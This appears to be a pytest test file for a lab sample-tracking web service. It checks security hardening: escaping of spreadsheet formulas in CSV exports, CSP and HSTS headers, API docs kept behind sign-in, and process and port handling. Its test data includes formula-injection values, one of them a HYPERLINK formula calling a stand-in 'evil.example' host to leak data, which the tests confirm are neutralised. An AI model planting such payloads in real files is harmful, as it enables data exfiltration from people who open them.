"""Hardening of the lab service: spreadsheet-safe CSV, Content-Security-Policy (and HSTS behind HTTPS), API docs
served from the package behind sign-in, any sample id in a URL and in full on the plate, duplicate uploads
named, web processes that die with the service (SIGKILL of the main process), a clean refusal of a taken port."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.parse

import pytest
from fastapi.testclient import TestClient
from serve_support import (PLATE_MAP, ROOT, drain, free_port, make_app, start_server, stop_server, token,
                           upload)

HOSTILE = {"S-001": '=HYPERLINK("http://evil.example/?leak","click")', "S-002": "a/b?c#d/../e 50%",
           "S-003": "@SUM(1+1)", "S-004": "+1-2", "S-005": "-3"}


@pytest.fixture()
def client(tmp_path):
    with TestClient(make_app(f"sqlite:///{tmp_path}/lab.db"), follow_redirects=False) as c:
        yield c


def _hostile_map(tmp_path):
    text = PLATE_MAP.read_text()
    for old, new in HOSTILE.items():
        text = re.sub(rf",{old},", "," + ('"' + new.replace('"', '""') + '"' if "," in new or '"' in new else new) + ",",
                      text)
    path = tmp_path / "hostile_map.csv"
    path.write_text(text)
    return path


def test_csv_neutralised_and_any_sample_id_in_urls(client, tmp_path):
    tech = token(client, "tech")
    bid = upload(client, tech, plate_map=_hostile_map(tmp_path)).json()["id"]
    drain(client.app)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/api/batches/{bid}/export.csv", headers=tech).text)))
    names = {r["sample"] for r in rows}
    for value in HOSTILE.values():
        expected = "'" + value if value[0] in "=+-@" else value
        assert expected in names, (value, names)
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values()), row
    audit = client.get("/audit.csv", headers=tech).text
    assert not any(cell.startswith(("=", "+", "@")) for line in csv.reader(io.StringIO(audit)) for cell in line)

    page = client.get(f"/batches/{bid}", headers=tech).text
    for name in HOSTILE.values():
        quoted = urllib.parse.quote(name, safe="/")
        assert f"sample?id={quoted}" in page or f"sample?id={urllib.parse.quote(name)}" in page, name
        r = client.get(f"/batches/{bid}/sample", params={"id": name}, headers=tech)
        assert r.status_code == 200 and "Sample " in r.text, name
    slash = HOSTILE["S-002"]
    assert client.get(f"/batches/{bid}/samples/{urllib.parse.quote(slash, safe='')}", headers=tech).status_code == 200
    # the plate grid shows the whole id
    assert ">a/b?c#d/../e 50%</a>" in page


def test_content_security_policy_and_hsts(client, tmp_path):
    tech = token(client, "tech")
    bid = upload(client, tech).json()["id"]
    drain(client.app)
    sample = client.get(f"/api/batches/{bid}", headers=tech).json()["result"]["samples"][0]["sample"]
    for path in ["/", f"/batches/{bid}", f"/batches/{bid}/sample?id={sample}", "/summary", "/audit", "/guide"]:
        r = client.get(path, headers=tech)
        policy = r.headers["content-security-policy"]
        assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy, path
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", r.text), f"inline script on {path}"
        assert "strict-transport-security" not in r.headers
    report = client.get(f"/api/batches/{bid}/export.html", headers=tech)
    assert report.headers["content-security-policy"].startswith("sandbox")
    with TestClient(make_app(f"sqlite:///{tmp_path}/tls.db", secure_cookies=True)) as tls:
        r = tls.get("/login")
        assert r.headers["strict-transport-security"].startswith("max-age=")


def test_api_docs_offline_and_behind_sign_in(client):
    assert client.get("/api/openapi.json").status_code == 401
    r = client.get("/api/docs")
    assert r.status_code == 303 and r.headers["location"].startswith("/login")
    assert client.get("/api/docs/swagger-ui-bundle.js").status_code == 401
    tech = token(client, "tech")
    docs = client.get("/api/docs", headers=tech).text
    assert "http" not in docs.replace('lang="en"', "")            # nothing from another site
    for src in re.findall(r'(?:src|href)="([^"]+)"', docs):
        r = client.get(src, headers=tech)
        assert r.status_code == 200 and len(r.content) > 20, src
    assert "SwaggerUIBundle" in client.get("/api/docs/swagger-ui-bundle.js", headers=tech).text
    spec = client.get("/api/openapi.json", headers=tech).json()
    assert "/api/batches" in spec["paths"] and "/api/login" in spec["paths"]


def test_duplicate_upload_is_named_with_a_link(client):
    tech = token(client, "tech")
    first = upload(client, tech).json()
    assert first["duplicate_of"] == []
    second = upload(client, tech).json()
    assert second["duplicate_of"] == [first["id"]] and "uploaded before as batch" in second["warning"]
    page = client.get(f"/batches/{second['id']}", headers=tech).text
    assert 'id="duplicate"' in page and f'href="/batches/{first["id"]}"' in page


def _answers(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1):
            return True
    except OSError:
        return False


@pytest.mark.slow
def test_sigkill_of_the_main_process_frees_the_port_and_a_restart_works(tmp_path):
    db = f"sqlite:///{tmp_path}/lab.db"
    proc, base = start_server(db, tmp_path / "serve.log", "--demo", "--no-watch", "--web-processes", "2")
    port = int(base.rsplit(":", 1)[1])
    try:
        os.kill(proc.pid, signal.SIGKILL)             # the main process only, not its group
        deadline = time.monotonic() + 10
        while _answers(port) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not _answers(port), "a web process still answers on the port 10 s after the main process was killed"
        proc2, base2 = start_server(db, tmp_path / "serve2.log", "--no-watch", "--web-processes", "2", port=port)
        stop_server(proc2)
    finally:
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def test_a_taken_port_fails_before_saying_it_started(tmp_path):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        r = subprocess.run([sys.executable, "-m", "oligolab.cli", "serve", "--db", f"sqlite:///{tmp_path}/x.db",
                            "--port", str(port), "--no-watch"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    out = r.stdout + r.stderr
    assert r.returncode != 0 and "cannot listen" in out and f"{port}" in out
    assert "lab service on" not in out and "Traceback" not in out
    assert free_port()


def test_assay_watch_folds_to_one_line_per_assay():
    from oligolab.service.watch import fold

    lines = [{"assay": "N1", "status": "warn", "text": "long", "short": "602/3,585 detected, 2,977 at risk, 6 missed"},
             {"assay": "N2", "status": "ok", "text": "long", "short": "3,585/3,585 detected, 0 at risk, 0 missed"}]
    folded = fold(lines)
    assert folded["status"] == "warn" and "\n" not in folded["text"]
    assert folded["text"].startswith("N1: 602/3,585 detected") and "N2: 3,585/3,585" in folded["text"]
